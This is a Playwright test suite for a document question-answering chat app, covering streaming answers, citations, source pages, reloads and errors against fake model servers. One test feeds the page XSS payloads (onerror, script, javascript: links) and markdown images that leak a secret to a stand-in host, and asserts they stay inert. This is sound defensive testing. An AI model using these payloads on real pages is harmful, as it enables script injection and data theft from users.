import AxeBuilder from '@axe-core/playwright';
import { expect, type Page, test } from 'playwright/test';
import { Ivy, until } from './ivy';
import { FakeAgent } from './upstreams/fake-agent';
import { FAKE_ANTHROPIC_KEY, FakeAnthropic } from './upstreams/fake-anthropic';
import { FakeOllama } from './upstreams/fake-ollama';

const QUESTION = 'What is the payload fairing design?';

const ask = async (page: Page, question = QUESTION) => {
  await page.getByLabel('Your question').fill(question);
  await page.keyboard.press('Enter');
};

/** The page must not ask any other host for anything, and must not log errors. */
function watch(page: Page, ivy: Ivy): string[] {
  const complaints: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(ivy.url) && !request.url().startsWith('data:'))
      complaints.push(`asked ${request.url()}`);
  });
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(String(error)));
  return complaints;
}

const accessible = async (page: Page) => {
  const { violations } = await new AxeBuilder({ page })
    .withTags(['wcag2a', 'wcag2aa', 'wcag21aa', 'wcag22aa'])
    .analyze();
  return violations.map(
    ({ id, nodes }) =>
      `${id}: ${nodes
        .map((node) => node.html)
        .join(' ')
        .slice(0, 300)}`,
  );
};

test.describe('the chat page', () => {
  const ollama = new FakeOllama();
  let ivy: Ivy;
  test.beforeAll(async () => {
    await ollama.start();
    ivy = await Ivy.start({ env: { OLLAMA_BASE_URL: ollama.url } });
    await ivy.settled();
  });
  test.beforeEach(() => {
    ollama.behaviour = {};
    ollama.aborted = 0;
  });
  test.afterAll(async () => {
    await ivy.stop();
    await ollama.stop();
  });

  test('streams an answer with its sources and scores beside it, and [n] jumps to its source', async ({ page }) => {
    const complaints = watch(page, ivy);
    ollama.behaviour = { tokenMs: 90 };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('status').filter({ hasText: 'Writing' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
    const sources = page.getByRole('complementary', { name: 'Sources' });
    await expect(sources.getByRole('listitem').first()).toContainText('hedera-2-payload-fairing.pdf');
    await expect(page.getByRole('button', { name: 'Ask' })).toBeVisible();
    const first = sources.getByRole('listitem').first();
    await expect(first).toContainText('p. 3');
    await expect(first).toContainText(/0\.\d\d/);
    await expect(sources.getByText('Cited', { exact: true })).toBeVisible();
    await expect(sources.getByText(/Retrieved, not cited \(\d\)/)).toBeVisible();
    const article = page.getByRole('article');
    await expect(article).toContainText('See also [1][2] and [99].');
    await article.getByRole('button', { name: /^Source 2: / }).click();
    await expect(sources.getByRole('listitem').nth(1)).toBeFocused();
    expect(await accessible(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test('a source opens at its page, as it looks and as text, and pages can be turned', async ({ page }) => {
    const complaints = watch(page, ivy);
    await page.goto(ivy.url);
    await ask(page);
    const link = page.getByRole('link', { name: /Open page/ }).first();
    await expect(link).toHaveAttribute('href', /^\/view\/doc_[0-9a-f]+\?page=3&passage=/);
    await page.goto(ivy.url + (await link.getAttribute('href')));
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('hedera-2-payload-fairing.pdf');
    await expect(page.getByText('Page 3 of 9')).toBeVisible();
    // The page is drawn, with the passage marked where its lines stand: below the heading, across the page.
    const picture = page.getByRole('img', { name: 'Page 3 as it looks' });
    await expect(picture).toHaveAttribute('data-drawn', '3');
    const mark = page.locator('[data-passage]').first();
    await expect(mark).toBeInViewport();
    const [place, whole] = [await mark.boundingBox(), await picture.boundingBox()];
    expect(((place?.y ?? 0) - (whole?.y ?? 0)) / (whole?.height ?? 1)).toBeCloseTo(0.08, 1);
    expect((place?.width ?? 0) / (whole?.width ?? 1)).toBeGreaterThan(0.25);
    expect(await inked(page, place)).toBeGreaterThan(20);
    expect(await accessible(page)).toEqual([]);
    await page.getByRole('button', { name: 'Text', exact: true }).click();
    await expect(page.getByText('two half-shells of CFRP sandwich')).toBeVisible();
    // The passage itself stands out.
    await expect(page.locator('mark.passage').filter({ hasText: 'half-shells' }).first()).toBeInViewport();
    await page.getByRole('link', { name: 'Next page' }).click();
    await expect(page.getByText('Page 4 of 9')).toBeVisible();
    expect(await accessible(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test('an answer that would keep the browser busy is shown as it is written', async ({ page }) => {
    const answers = [
      '>'.repeat(2_800),
      `${'- '.repeat(1_400)}a`,
      `${'|a'.repeat(600)}|\n${'|-'.repeat(600)}|\n${'|\n'.repeat(600)}`,
      '*a_'.repeat(20_000),
      '[1]'.repeat(20_000),
    ];
    for (const [index, text] of answers.entries()) {
      ollama.behaviour = { tokens: [text, `\n\n# The end of answer ${index}`] };
      await page.goto(ivy.url);
      await ask(page);
      await expect(page.getByText(`The end of answer ${index}`).first()).toBeVisible();
      // What happened last of all stays after a reload.
      await page.reload();
      await expect(page.getByText(`The end of answer ${index}`).first()).toBeVisible();
    }
  });

  test('sentences that their source does not bear out are marked, with the reason', async ({ page }) => {
    const complaints = watch(page, ivy);
    ollama.behaviour = {
      tokens: [
        'The fairing consists of two half-shells of CFRP sandwich [1]. ',
        'Its external diameter is 77.7 m [1].',
      ],
    };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByText('2 sentences checked: 1 supported, 1 differs from its source.')).toBeVisible();
    await expect(page.getByText('It says 77.7 m, the source says 4.0 m.')).toBeVisible();
    const marked = page.locator('mark.differs');
    await expect(marked.first()).toContainText('Its external diameter is 77.7 m');
    await expect(page.getByRole('article')).toContainText('two half-shells of CFRP sandwich [1]. Its external');
    await expect(marked.filter({ hasText: 'half-shells' })).toHaveCount(0);
    expect(await accessible(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test('a follow-up is searched as a question of its own, which is shown and can be changed', async ({ page }) => {
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('button', { name: 'Ask' })).toBeVisible();
    ollama.script = [
      { tokens: ['What is the separation system ', 'of the payload fairing?'] },
      { tokens: ['It is cut by a cord [1].'] },
    ];
    await ask(page, 'And how is it separated?');
    const second = page.getByRole('article').nth(1);
    await expect(second).toContainText('Searched for “What is the separation system of the payload fairing?”');
    await expect(second).toContainText('cut by a cord');
    await second.getByRole('button', { name: 'Change' }).click();
    await second.getByLabel('Search for').fill('clamp band preload');
    await second.getByRole('button', { name: 'Search and answer again' }).click();
    await expect(second).toContainText('Searched for “clamp band preload”');
    await expect(page.getByRole('complementary', { name: 'Sources' }).nth(1)).toContainText('separation-requirements');
    await expect(page.getByRole('article')).toHaveCount(2);
  });

  test('stop reaches the model and keeps what was written', async ({ page }) => {
    ollama.behaviour = { tokens: Array.from({ length: 2000 }, (_, n) => `word${n} `), tokenMs: 15 };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('article')).toContainText('word5');
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect(page.getByText('Stopped.')).toBeVisible();
    await until(() => ollama.aborted === 1);
    await expect(page.getByRole('article')).toContainText('word5');
  });

  test('a reload in mid-answer goes on where the answer is', async ({ page }) => {
    ollama.behaviour = { tokens: Array.from({ length: 120 }, (_, n) => `word${n} `), tokenMs: 25 };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('article')).toContainText('word10');
    await page.reload();
    await expect(page.getByRole('article')).toContainText('word0 word1');
    await expect(page.getByRole('article')).toContainText('word119');
    expect(ollama.aborted).toBe(0);
  });

  test('a conversation goes on with its history', async ({ page }) => {
    ollama.behaviour = { tokens: ['The mass is 940 kg.'] };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('button', { name: 'Ask' })).toBeVisible();
    await ask(page, 'And how high is it, in metres?');
    await expect(page.getByRole('article')).toHaveCount(2);
    await until(() => (ollama.chats.at(-1)?.messages.length ?? 0) >= 3);
    const roles = ollama.chats.at(-1)?.messages.map(({ role, content }) => [role, content.slice(0, 20)]);
    expect(roles?.slice(0, 3)).toEqual([
      ['system', 'Rules:\n- Put the num'],
      ['user', QUESTION.slice(0, 20)],
      ['assistant', 'The mass is 940 kg.'],
    ]);
    await page.getByRole('button', { name: 'New chat' }).click();
    await expect(page.getByRole('article')).toHaveCount(0);
  });

  test('hostile text in an answer is inert', async ({ page }) => {
    const complaints = watch(page, ivy);
    ollama.behaviour = {
      tokens: [
        '<img src=x onerror="window.__x=1"> <script>window.__x=1</script> [click](javascript:window.__x=1) ',
        '![leak](https://canary.example/?q=SECRET) ![r][r]\n\n[r]: https://canary.example/r\n\n[out](https://canary.example/a) <iframe srcdoc="x"></iframe>',
      ],
    };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('button', { name: 'Ask' })).toBeVisible();
    const article = page.getByRole('article');
    await expect(article.locator('img, script, iframe')).toHaveCount(0);
    await expect(article.getByRole('link', { name: /out/ })).toHaveText('out (canary.example)');
    await expect(article.getByRole('link', { name: 'click' })).toHaveCount(0);
    expect(await page.evaluate(() => (window as { __x?: number }).__x)).toBeUndefined();
    expect(complaints).toEqual([]);
  });

  test('a model that fails in mid-answer leaves its text, the reason and a way to try again', async ({ page }) => {
    ollama.behaviour = { tokens: ['one ', 'two ', 'three '], tokenMs: 30, fault: 'error-line' };
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByRole('main').getByRole('alert')).toContainText(
      'The answer broke off. Ollama reported: an error was encountered',
    );
    await expect(page.getByRole('article')).toContainText('one two');
    ollama.behaviour = { tokens: ['All well.'] };
    await page.getByRole('button', { name: 'Try again' }).click();
    await expect(page.getByRole('article')).toContainText('All well.');
    await expect(page.getByRole('main').getByRole('alert')).toHaveCount(0);
  });

  test('a provider that is down is an error with its remedy', async ({ page }) => {
    await page.goto(ivy.url);
    await ollama.stop();
    await ask(page);
    await expect(page.getByRole('main').getByRole('alert')).toContainText(
      'Ollama cannot be reached. Check that it is running',
    );
    await ollama.start();
  });

  test('a question without retrieval says so', async ({ page }) => {
    await page.goto(ivy.url);
    await page.getByLabel('Search documents').uncheck();
    await ask(page);
    await expect(
      page.getByText('Answered without searching the documents: switched off for this request.'),
    ).toBeVisible();
    await expect(page.getByRole('article')).toContainText('I have no documents.');
  });

  test('works on a phone, in the dark, by keyboard', async ({ browser }) => {
    const context = await browser.newContext({ viewport: { width: 390, height: 844 }, colorScheme: 'dark' });
    const page = await context.newPage();
    await page.goto(ivy.url);
    await page.getByRole('button', { name: QUESTION }).focus();
    await page.keyboard.press('Enter');
    await expect(page.getByRole('complementary', { name: 'Sources' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Ask' })).toBeVisible();
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    expect(await accessible(page)).toEqual([]);
    await context.close();
  });
});

test('without any model the page quotes the documents and says why', async ({ page }) => {
  const ivy = await Ivy.start();
  try {
    await ivy.settled();
    await page.goto(ivy.url);
    await expect(page.getByText('No language model is configured. Ivy answers with quotations')).toBeVisible();
    expect(await accessible(page)).toEqual([]);
    await page.getByRole('button', { name: QUESTION }).click();
    await expect(page.getByRole('article')).toContainText('two half-shells of CFRP sandwich');
    await expect(
      page
        .getByRole('article')
        .getByRole('button', { name: /^Source 1: hedera-2-payload-fairing\.pdf, p\. 3/ })
        .first(),
    ).toBeVisible();
    await ask(page, 'How do I bake a chocolate cake?');
    await expect(page.getByRole('article').last()).toContainText('Nothing in the documents matches this question.');
  } finally {
    await ivy.stop();
  }
});

test('a knowledge agent that is down flags the answer', async ({ page }) => {
  const agent = new FakeAgent();
  await agent.start();
  const ivy = await Ivy.start({ env: { KNOWLEDGE_AGENT_URL: agent.url }, empty: true });
  try {
    await page.goto(ivy.url);
    await ask(page);
    await expect(page.getByText('The knowledge agent sent no text for this page.').first()).toBeVisible();
    await expect(page.getByRole('complementary', { name: 'Sources' })).toContainText('p. 45');
    await agent.stop();
    await ask(page, 'What is the mass of the payload fairing?');
    await expect(
      page.getByText(/The documents could not be searched: The knowledge agent cannot be reached/),
    ).toBeVisible();
  } finally {
    await ivy.stop();
  }
});

test('Claude’s native citations become the same markers and sources', async ({ page }) => {
  const anthropic = new FakeAnthropic();
  await anthropic.start();
  const ivy = await Ivy.start({
    env: { LLM_PROVIDER: 'claude', ANTHROPIC_API_KEY: FAKE_ANTHROPIC_KEY, ANTHROPIC_BASE_URL: anthropic.url },
  });
  try {
    await ivy.settled();
    await page.goto(ivy.url);
    await ask(page);
    await expect(
      page.getByRole('article').getByRole('button', { name: /^Source 1: hedera-2-payload-fairing\.pdf, p\. 3/ }),
    ).toBeVisible();
    await expect(page.getByText('anthropic · claude-sonnet-5-5')).toBeVisible();
    expect(anthropic.calls[0]?.messages[0]?.content[0]?.type).toBe('search_result');
  } finally {
    await ivy.stop();
    await anthropic.stop();
  }
});

/** How many dots of a place are dark: some where text is drawn, none on empty paper. */
async function inked(
  page: Page,
  place: { x: number; y: number; width: number; height: number } | null,
): Promise<number> {
  if (!place) return 0;
  const picture = (await page.screenshot({ clip: place })).toString('base64');
  return page.evaluate(async (data) => {
    const image = new Image();
    image.src = `data:image/png;base64,${data}`;
    await image.decode();
    const canvas = new OffscreenCanvas(image.width, image.height);
    const context = canvas.getContext('2d');
    context?.drawImage(image, 0, 0);
    const dots = context?.getImageData(0, 0, image.width, image.height).data ?? [];
    let dark = 0;
    for (let at = 0; at < dots.length; at += 4) if ((dots[at] ?? 255) < 100) dark += 1;
    return dark;
  }, picture);
}
